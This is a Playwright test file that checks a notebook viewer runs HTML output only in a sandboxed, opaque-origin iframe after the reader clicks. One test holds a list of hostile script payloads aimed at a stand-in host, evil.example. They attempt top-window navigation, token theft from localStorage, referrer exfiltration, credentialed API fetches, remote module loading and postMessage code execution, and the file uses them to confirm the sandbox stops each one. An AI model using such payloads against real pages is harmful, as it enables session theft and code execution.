import { expect, it } from 'vitest';
import { MAX_FRAME_HEIGHT } from '../../src/output/frame-message.ts';
import { fixtureHtml } from '../output/fixture-outputs.ts';
import { startOtherServer } from '../kernel/support/jupyter-server.ts';
import type { OpenedPage } from '../support/browser-pages.ts';
import { openOutputPage, type OutputSite, useOutputPages } from './output-page.ts';

let opened: OpenedPage<OutputSite>;
let requests: string[];
useOutputPages((next) => {
  opened = next;
  requests = [];
  opened.page.on('request', (request) => requests.push(request.url()));
});

async function show(html: readonly string[]): Promise<void> {
  await openOutputPage(opened);
  await opened.page.evaluate((parts) => {
    for (const part of parts) {
      window.live.add({ header: { msg_type: 'display_data' }, content: { data: { 'text/html': part, 'text/plain': 'plain form' }, metadata: {} } });
    }
    window.live.paint();
  }, html);
}

const opener = () => opened.page.getByRole('button', { name: 'Show interactive output' });

/** The document of the frame, once the output has run. */
async function openFrame(index = 0) {
  await opener().nth(index).click();
  const frame = opened.page.frameLocator('iframe');
  await frame.locator('body.ran').waitFor();
  return frame;
}

const RAN = '<script>document.body.classList.add("ran")</script>';

it('runs no script before the reader asks, and then in a frame with an opaque origin', async () => {
  await show([`<p id="p">static</p><script>window.__pwned=1; p.textContent=origin</script>${RAN}`]);
  expect(await opened.page.locator('iframe').count()).toBe(0);
  expect(await opened.page.locator('.output-html').innerText()).toBe('static');
  const frame = await openFrame();
  expect(await frame.locator('#p').innerText()).toBe('null');
  const element = opened.page.locator('iframe');
  expect([await element.getAttribute('sandbox'), await element.getAttribute('referrerpolicy')]).toEqual(['allow-scripts', 'no-referrer']);
  expect(await opened.page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  await opened.page.getByRole('button', { name: 'Hide interactive output' }).click();
  expect(await opened.page.locator('iframe').count()).toBe(0);
});

it('keeps the attacks of the cases away from the page, before and after the click', async () => {
  await show([...fixtureHtml('g/g01-html-outputs'), ...fixtureHtml('g/g05-css-injection'), ...fixtureHtml('g/g07-dom-clobbering')]);
  const before = await opened.page.locator('.cell-bar').first().boundingBox();
  for (const button of await opened.page.locator('output-frame button').all()) await button.click();
  await opened.page.waitForFunction(() => [...document.querySelectorAll('iframe')].every((frame) => frame.style.height !== ''));
  expect(await opened.page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(await opened.page.locator('.cell-bar').first().boundingBox()).toEqual(before);
  expect(await opened.page.evaluate(() => 'config' in window || 'action' in document.body)).toBe(false);
  expect(requests.filter((url) => !url.startsWith(opened.site.origin) && !url.startsWith('data:'))).toEqual([]);
});

it('lets nothing out of the frame: no navigation of the page, no storage, no request, no form, no window', async () => {
  const heard: (string | undefined)[] = [];
  const evil = await startOtherServer((request, response) => {
    heard.push(request.url);
    response.setHeader('access-control-allow-origin', '*');
    response.end();
  });
  const payloads = [
    "try { top.location = 'https://evil.example/' } catch {}",
    "try { parent.document.body.innerHTML = '' } catch {}",
    "parent.postMessage({ type: 'run', cell: 'c1', code: 'import os' }, '*')",
    "parent.postMessage({ type: 'resize', height: '1px;position:fixed' }, '*')",
    "try { window.stored = localStorage.getItem('token') } catch { window.stored = 'refused' }",
    "open('https://evil.example/?' + document.referrer)",
    "fetch('/api/kernels', { credentials: 'include' }).catch(() => {})",
    "new Image().src = 'https://evil.example/i'",
    "import('https://evil.example/m.js').catch(() => {})",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/f' }))",
    "const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', target: '_top' }); document.body.append(form); form.submit()",
    "document.body.dataset.stored = window.stored; document.body.dataset.referrer = document.referrer",
  ];
  const served = opened.site.served.length;
  await show([`<body>${payloads.map((code) => `<script>${code.replaceAll('https://evil.example/', evil)}</script>`).join('')}${RAN}`]);
  const url = opened.page.url();
  const frame = await openFrame();
  expect(await frame.locator('body').getAttribute('data-stored')).toBe('refused');
  expect(await frame.locator('body').getAttribute('data-referrer')).toBe('');
  expect(opened.page.url()).toBe(url);
  expect(opened.context.pages()).toHaveLength(1);
  expect(await opened.page.locator('run-cell').count()).toBe(2);
  expect(heard).toEqual([]);
  expect(opened.site.served.slice(served)).not.toContain('/api/kernels');
});

it('takes the height from its own frame alone, within bounds', async () => {
  await show([`<div style="height:321px">x</div>${RAN}`, `<script>parent.postMessage({ type: 'resize', height: 1e9 }, '*')</script><p style="height:5000px">y${RAN}`]);
  await openFrame();
  const height = (index: number) => opened.page.locator('iframe').nth(index).evaluate((element) => (element as HTMLIFrameElement).style.height);
  await expect.poll(() => height(0)).toBe('321px');
  await opened.page.evaluate(() => { window.postMessage({ type: 'resize', height: 10 }, '*'); });
  await opener().first().click();
  await expect.poll(() => height(1)).toBe(`${MAX_FRAME_HEIGHT}px`);
  expect(await height(0)).toBe('321px');
});

it('runs libraries that come with the output: compiled expressions, workers, styles and pictures of their own', async () => {
  await show([`<style>p{color:rgb(1,2,3)}</style><p>x</p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="this.dataset.loaded=1"><script>
    document.querySelector('p').textContent = new Function('return 6 * 7')();
    new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => document.body.classList.add('ran')</script>`]);
  const frame = await openFrame();
  expect(await frame.locator('p').innerText()).toBe('42');
  expect(await frame.locator('p').evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
});

it('says so where the frame cannot be loaded', async () => {
  await show([`<p>x</p>${RAN}`]);
  await opened.page.route('**/output-frame/*', (route) => route.abort());
  await opener().click();
  await opened.page.getByRole('alert').waitFor();
  expect(await opened.page.locator('iframe').count()).toBe(0);
  await opener().click();
  expect([await opened.page.getByRole('alert').count(), await opened.page.locator('iframe').count()]).toEqual([0, 1]);
});

it('says so at once where there is no network', async () => {
  await show([`<p>x</p>${RAN}`]);
  await opened.page.locator('.output-html').waitFor();
  await opened.context.setOffline(true);
  await opener().click();
  await opened.page.getByRole('alert').waitFor({ timeout: 3000 });
});
